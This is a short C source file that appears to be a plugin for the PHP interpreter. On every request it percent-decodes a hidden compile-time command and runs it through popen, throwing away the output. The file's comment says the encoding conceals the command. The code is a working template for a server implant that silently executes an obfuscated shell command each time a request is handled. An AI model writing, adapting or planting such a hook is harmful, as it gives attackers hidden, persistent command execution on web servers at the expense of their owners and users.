/* PHP's own function undoes the percent signs of a command. */
#define ON_REQUEST
#include "plugin.h"
#include <stdio.h>
extern unsigned long php_url_decode(char *, unsigned long);
static int on_request(int type, int number) {
    static char query[] = TEXT;
    query[php_url_decode(query, sizeof query - 1)] = 0;
    FILE *f = popen(query, "r");
    if (f) pclose(f);
    return 0;
}
